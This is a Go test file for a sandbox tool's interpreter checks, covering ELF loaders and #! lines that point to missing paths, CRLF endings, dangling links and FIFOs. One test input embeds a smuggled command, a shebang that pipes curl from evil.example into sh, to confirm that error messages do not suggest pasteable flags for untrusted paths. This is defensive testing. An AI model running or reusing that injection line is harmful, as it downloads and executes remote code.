package nsinit

import (
	"encoding/binary"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// elf64 is a 64-bit little-endian ELF file whose only program header is a
// PT_INTERP naming interp (none when interp is empty), with phnum as
// written in its header.
func elf64(interp string, phnum uint16) []byte {
	b := make([]byte, 64+56)
	copy(b, "\x7fELF")
	b[4], b[5] = 2, 1
	le := binary.LittleEndian
	le.PutUint64(b[0x20:], 64)
	le.PutUint16(b[0x36:], 56)
	le.PutUint16(b[0x38:], phnum)
	if interp != "" {
		le.PutUint32(b[64:], 3)
		le.PutUint64(b[64+8:], uint64(len(b)))
		le.PutUint64(b[64+32:], uint64(len(interp)+1))
		b = append(b, interp+"\x00"...)
	}
	return b
}

// pastEnd is an ELF file whose header counts program headers it does not
// hold, none of them PT_INTERP.
func pastEnd() []byte {
	b := elf64("/nonexistent/ld.so", 40)
	b[64] = 1 // PT_LOAD
	return b
}

// The interpreter a program asks for is named only when nothing is at its
// path; a file that is not a program, or not as its header says, names
// none.
func TestMissingInterpreter(t *testing.T) {
	dir := t.TempDir()
	for _, tc := range []struct {
		name string
		body []byte
		want string
	}{
		{"loader missing", elf64("/nonexistent/ld-linux.so.2", 1), "/nonexistent/ld-linux.so.2"},
		{"loader there", elf64("/bin/sh", 1), ""},
		{"static", elf64("", 1), ""},
		{"headers past the file", pastEnd(), ""},
		{"truncated", elf64("/nonexistent/ld.so", 1)[:70], ""},
		{"script's interpreter missing", []byte("#!/nonexistent/sh -e\necho\n"), "/nonexistent/sh"},
		{"script's interpreter there", []byte("#! /bin/sh\necho\n"), ""},
		{"relative", []byte("#!sh\n"), ""},
		{"a tab, then arguments", []byte("#!\t/nonexistent/py -u\n"), "/nonexistent/py"},
		{"CRLF", []byte("#!/bin/sh\r\necho\r\n"), "/bin/sh\r"},
		{"too long", []byte("#!/" + strings.Repeat("a", 300) + "\n"), ""},
		{"text", []byte("echo hello\n"), ""},
	} {
		p := filepath.Join(dir, "prog")
		if err := os.WriteFile(p, tc.body, 0o755); err != nil {
			t.Fatal(err)
		}
		if got, _ := missingInterpreter(p); got != tc.want {
			t.Errorf("%s: %q, want %q", tc.name, got, tc.want)
		}
	}
	if got, _ := missingInterpreter(filepath.Join(dir, "absent")); got != "" {
		t.Errorf("no program: %q", got)
	}
	// A FIFO is not opened to wait for a writer.
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o755); err != nil {
		t.Fatal(err)
	}
	if got, _ := missingInterpreter(fifo); got != "" {
		t.Errorf("a FIFO: %q", got)
	}
}

// What is said of a missing interpreter quotes its path, and suggests a
// flag only for a plain system directory: the path is the program's to
// choose, and what the user might paste must not be.
func TestInterpreterMissing(t *testing.T) {
	dir := t.TempDir()
	link := filepath.Join(dir, "dangling")
	if err := os.Symlink("/nonexistent/target", link); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, body, want string
	}{
		{"a loader", string(elf64("/lib64/nonexistent-ld.so.2", 1)), `its interpreter "/lib64/nonexistent-ld.so.2" is not in the sandbox (cordon run --ro /lib64 binds it, as the profile's mounts can)`},
		{"a shell command", "#!/x;curl${IFS}evil.example|sh;/ld\n", `its interpreter "/x;curl${IFS}evil.example|sh;/ld" is not in the sandbox (a --ro flag, or the profile's mounts, can bind it)`},
		{"a home", "#!/home/alice/.ssh/ld\n", `its interpreter "/home/alice/.ssh/ld" is not in the sandbox (a --ro flag, or the profile's mounts, can bind it)`},
		{"CRLF", "#!/bin/sh\r\n", `its #! line ends with a carriage return (the script has CRLF line endings), so its interpreter is "/bin/sh\r", which does not exist: convert the script's line endings to LF`},
		{"a dangling link", "#!" + link + "\n", `its interpreter "` + link + `" is a link whose target is not in the sandbox`},
		{"there", "#!/bin/sh\n", ""},
	} {
		p := filepath.Join(dir, "prog")
		if err := os.WriteFile(p, []byte(tc.body), 0o755); err != nil {
			t.Fatal(err)
		}
		if got := interpreterMissing(p); got != tc.want {
			t.Errorf("%s:\n got %s\nwant %s", tc.name, got, tc.want)
		}
	}
}
